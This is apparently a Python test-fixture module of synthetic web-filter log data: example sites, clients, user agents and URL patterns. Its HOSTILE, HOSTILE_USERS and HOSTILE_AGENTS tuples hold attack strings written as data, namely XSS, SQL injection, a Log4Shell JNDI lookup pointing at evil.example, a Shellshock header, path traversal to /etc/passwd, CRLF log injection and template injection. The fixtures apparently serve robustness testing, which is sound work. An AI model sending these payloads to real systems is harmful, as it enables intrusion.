"""What the lines of this corpus talk about; a table of data, longer than a module should be.

Addresses are those of documentation (RFC 5737), domains those of RFC 2606 and RFC 6761; categories
are the UTM's own numbers and names.
"""

from typing import Final, NamedTuple


class Site(NamedTuple):
    """A site as the web filter knows it."""

    host: str
    path: str
    address: str
    category: str
    reputation: str
    categoryname: str
    content_type: str


class Client(NamedTuple):
    """Who browses: address and user, the user also as JSON has it."""

    address: str
    user: str
    shown: str


SITES: Final = (
    Site("www.example.com", "/", "203.0.113.9", "105", "trusted", "Business", "text/html"),
    Site("shop.example.net", "/item/", "203.0.113.17", "105,136", "neutral",
         "Business,Online Shopping", "text/html; charset=utf-8"),
    Site("static.shop.example.net", "/img/", "203.0.113.18", "105,105,105", "neutral",
         "Business,Business,Business", "image/png"),
    Site("mail.example.org", "/inbox/", "198.51.100.25", "178", "trusted",
         "Internet Services", "application/json"),
    Site("download.example.org", "/dist/", "198.51.100.40", "105,175", "trusted",
         "Business,Software/Hardware", "application/octet-stream"),
    Site("portal.example.com", "/news/", "203.0.113.30", "141", "neutral",
         "Portal Sites", "text/html"),
    Site("campus.example.edu", "/course/", "192.0.2.130", "111", "trusted",
         "Education/Reference", "text/html"),
    Site("files.example.net", "/share/", "203.0.113.77", "170", "unverified",
         "Personal Network Storage", "application/zip"),
    Site("cdn.example.org", "/lib/", "198.51.100.90", "178,175", "trusted",
         "Internet Services,Software/Hardware", "application/javascript"),
    Site("intranet.corp.example", "/wiki/", "192.0.2.200", "105", "trusted",
         "Business", "text/html"),
    Site("nobody-knows.example", "/a/", "203.0.113.201", "9998", "unverified",
         "Uncategorized", "text/plain"),
    Site("weather.example.com", "/v1/", "203.0.113.55", "141,178", "neutral",
         "Portal Sites,Internet Services", "application/json"),
)  # fmt: skip
BLOCKED_SITES: Final = (
    Site("games.example", "/play/", "203.0.113.66", "122", "neutral", "Games", "text/html"),
    Site("poker.example.net", "/table/", "203.0.113.67", "121", "suspicious", "Gambling",
         "text/html"),
    Site("bad.example.org", "/x/", "203.0.113.68", "9998", "malicious", "Uncategorized",
         "text/html"),
)  # fmt: skip
CLIENTS: Final = tuple(
    Client(f"192.0.2.{10 + number}", user, shown)
    for number, (user, shown) in enumerate(
        (
            ("", ""),
            ("ann", "ann"),
            ("bob.miller", "bob.miller"),
            ("ACME\\carla", "ACME\\\\carla"),
            ("ACME\\d.o'hara", "ACME\\\\d.o'hara"),
            ("ACME\\jürgen.müller", "ACME\\\\j\\u00fcrgen.m\\u00fcller"),
            ("ACME\\zoé", "ACME\\\\zo\\u00e9"),
            ("svc_backup", "svc_backup"),
        )
    )
)
"""Who browses through the UTM."""
COMPUTERS: Final = tuple(
    Client(f"198.51.100.{100 + number}", f"ACME\\{name}", f"ACME\\\\{shown}")
    for number, (name, shown) in enumerate(
        (
            ("ann", "ann"),
            ("bob", "bob"),
            ("carla", "carla"),
            ("d.o'hara", "d.o'hara"),
            ("jürgen.müller", "j\\u00fcrgen.m\\u00fcller"),
            ("zoé", "zo\\u00e9"),
        )
    )
)
"""Endpoints and who is logged in there."""
AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "curl/7.88.1",
    "",
    "Microsoft-CryptoAPI/10.0",
)
PROFILE: Final = "REF_DefaultHTTPProfile (Default Web Filter Profile)"
ACTION: Final = "REF_DefaultHTTPCFFAction (Default content filter action)"
ENDPOINT_PROFILE: Final = "REF_HttProEndpoints (Endpoints)"
ENDPOINT_ACTION: Final = "REF_HttCffEndpoints (Endpoint web control)"
SESSION: Final = "5f2d8c0e91ab4477" * 4
GOOD_PATTERNS: Final = (
    "^https?://[A-Za-z0-9.-]*\\.example\\.com/",
    "^https?://intranet\\.corp\\.example/",
)
ODD_PATTERNS: Final = (
    "*.example.com",
    "http://.*example\\.com",
    "^https?://.*example\\.com/",
    "^https?://www\\.example\\.com",
    "^https://www\\.example\\.com/downloads/",
)
HOSTILE: Final = (
    "http://www.example.com/?q=<script>alert(1)</script>",
    "http://www.example.com/?q=%22onload=%22x",
    "http://www.example.com/?a=1&b=id='4233'",
    "http://www.example.com/a,b;c=d?e=f=g",
    "http://www.example.com/?next=http://evil.example/?x=1#frag",
    "http://www.example.com/%0d%0a2026:01:01-00:00:00%20utm%20confd[1]:%20I",
    "http://xn--mller-kva.example/%E2%80%AE/",
    "http://[2001:db8::1]:8080/?[]",
    "http://www.example.com/?x=${jndi:ldap://evil.example/a}",
    "http://www.example.com/?x='%20OR%201=1--",
    "http://www.example.com/=HYPERLINK('x')",
    "http://www.example.com/?%s%n%x{0}",
    "http://www.example.com/" + "a" * 512,
)
HOSTILE_USERS: Final = (
    "ACME\\<b>bold</b>",
    "ACME\\x' id='9999",
    "=1+1",
    "../../etc/passwd",
    "\u202eevil",
    "ACME\\\u540d\u524d",
    "a=b c=d",
    "%s%s",
    "-",
)
HOSTILE_AGENTS: Final = (
    "() { :;}; echo vulnerable",
    "Mozilla/5.0 <img src=x onerror=alert(1)>",
    "'; DROP TABLE logs;--",
    "[pid]: id='0001' severity=",
    "\\\\x00\\\\n",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)
"""A UTM writes no raw quote, line break or control character inside a value, and neither do we."""
